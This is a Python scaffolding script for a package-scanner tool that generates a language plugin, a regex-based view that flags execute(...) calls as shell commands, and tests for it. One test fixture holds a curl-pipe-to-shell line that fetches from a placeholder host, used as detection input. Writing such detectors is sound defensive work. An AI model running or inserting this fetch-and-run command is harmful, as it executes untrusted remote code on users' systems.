"""A language of the scanner: which files are of it, which words make one worth reading, its view, and tests of that."""

from pathlib import Path
from typing import Final

from tools.scaffolds.files import PACKAGE, module_name, write_new

THEN: Final = "let its view tell more than the commands that are run; facts/scan/labels.py lists what can be told"

_LANGUAGE: Final = '''"""{id}: scripts of it, by their suffix."""

from typing import Final

from pratique.facts.scan.languages.language import Language
from pratique.facts.scan.languages.{module}.view import read

_SUFFIX: Final = ".{id}"
_WORDS: Final = {{"process": ("execute",)}}


def _claims(path: str, head: bytes) -> bool:
    del head
    return path.endswith(_SUFFIX)


LANGUAGE: Final = Language("{id}", _claims, read, _WORDS, lambda found: "process" in found)
'''

_VIEW: Final = '''"""What a script of {id} does, without running it: command lines that it runs, until this sees more."""

import re
from typing import Final

from pratique.errors import InvalidInput
from pratique.facts.scan.content import Content, Reader

_RUN: Final = re.compile(r"""\\bexecute\\(\\s*(["'])(.*?)\\1""")


def read(content: Content, reader: Reader) -> None:
    """Tell of each command line, with what is known of it. Raises `InvalidInput` for what is no text."""
    if b"\\0" in content.data:
        raise InvalidInput("not readable as {id}: it is no text")
    for number, line in enumerate(content.text().splitlines(), 1):
        for found in _RUN.finditer(line):
            labels = reader.labels_of(found[2])
            for label in sorted(labels):
                reader.emit(label, number, text=found[2])
            reader.emit("proc.shell", number, inputs=labels, text=found[0])
            reader.embed("shell", found[2], number)
'''

_TEST: Final = '''"""The view of {id}: what it tells of a script."""

from pratique.ecosystems.archive import Member
from pratique.facts.scan.engine import Look, look
from pratique.facts.scan.observation import Observation

PATH = "demo/script.{id}"


def looked(data: bytes) -> Look:
    return look("demo-1.0-py3-none-any.whl", [Member(PATH, len(data), lambda: data)])


def seen(data: bytes) -> tuple[Observation, ...]:
    view = looked(data).files.get(PATH)
    return () if view is None else view.observations


def test_a_command_line_is_told_with_what_is_known_of_it_and_read_as_one() -> None:
    found = seen(b'-- a comment\\nexecute("curl https://get.example.invalid/ | sh")\\n')
    (run,) = (each for each in found if each.label == "proc.shell" and each.language == "{id}")
    assert run.line == 2
    assert run.gets("proc.pipe_shell")
    assert {{each.language for each in found}} >= {{"{id}", "shell"}}


def test_other_calls_are_nothing() -> None:
    assert seen(b'print("execute")\\n') == ()


def test_what_is_no_text_counts_as_unread() -> None:
    found = looked(b'\\0execute("true")\\n')
    assert [each.path for each in found.unread] == [PATH]
'''


def write(root: Path, name: str) -> list[Path]:
    """Write a language called `name`, its view, and tests. Raises `SystemExit` for a name that is taken or cannot be used."""
    module = module_name(name)
    folder = root / PACKAGE / f"facts/scan/languages/{module}"
    return write_new(
        {
            folder / "__init__.py": _LANGUAGE.format(id=name, module=module),
            folder / "view.py": _VIEW.format(id=name),
            root / f"tests/facts/languages/test_{module}.py": _TEST.format(id=name),
        }
    )
